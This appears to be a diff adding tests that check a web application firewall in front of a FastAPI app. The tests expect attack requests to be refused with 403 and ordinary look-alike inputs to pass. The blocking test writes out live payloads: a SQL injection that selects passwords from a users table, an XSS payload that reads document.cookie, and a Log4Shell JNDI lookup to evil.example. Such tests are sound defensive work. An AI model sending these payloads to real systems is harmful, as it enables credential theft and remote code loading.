@@ -299,3 +299,38 @@ test('X-Forwarded-* and X-Request-ID from an untrusted client are replaced befor
   assert.equal(seen['x-request-id'], header(res, 'x-request-id'))
   assert.notEqual(seen['x-request-id'], 'spoofed-id')
 })
+
+test('WAF: SQL injection in the query, XSS in a JSON body and Log4Shell in a header are refused (403) and never reach the app', async (t) => {
+  if (app === null) return t.skip(fastApiSkipReason)
+  await neverReachesApp(async () => {
+    assertError(await request(prod.url + "/items/3?q=1'%20UNION%20SELECT%20password%20FROM%20users--"), 403, 'DRAWBRIDGE_ERR_BLOCKED')
+    const xss = await request(prod.url + '/items', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ name: '<img src=x onerror=alert(document.cookie)>', price: 1 }),
+    })
+    assertError(xss, 403, 'DRAWBRIDGE_ERR_BLOCKED')
+    assertError(await request(prod.url + '/items/3', { headers: { 'x-api-version': '${jndi:ldap://evil.example/x}' } }), 403, 'DRAWBRIDGE_ERR_BLOCKED')
+  })
+})
+
+test('WAF: the legitimate twins pass and the app answers as it would directly', async (t) => {
+  if (app === null) return t.skip(fastApiSkipReason)
+  const q = await request(prod.url + '/items/3?q=' + encodeURIComponent("O'Brien's select a plan"))
+  assert.equal(q.status, 200)
+  assert.deepEqual(q.json(), { item_id: 3, q: "O'Brien's select a plan" })
+  const body = { name: 'Fish & chips <b>large</b>', price: 9.5 }
+  const post = await request(prod.url + '/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
+  assert.equal(post.status, 200)
+  assert.deepEqual(post.json(), body)
+})
+
+test('WAF: a malformed JSON body gets 400 at the edge instead of the app\'s 422', async (t) => {
+  if (app === null) return t.skip(fastApiSkipReason)
+  const direct = await fetch(`${app.url}/items`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name": "x",' })
+  assert.equal(direct.status, 422, 'FastAPI itself answers 422')
+  await neverReachesApp(async () => {
+    const res = await request(prod.url + '/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name": "x",' })
+    assertError(res, 400, 'DRAWBRIDGE_ERR_MALFORMED_BODY')
+  })
+})
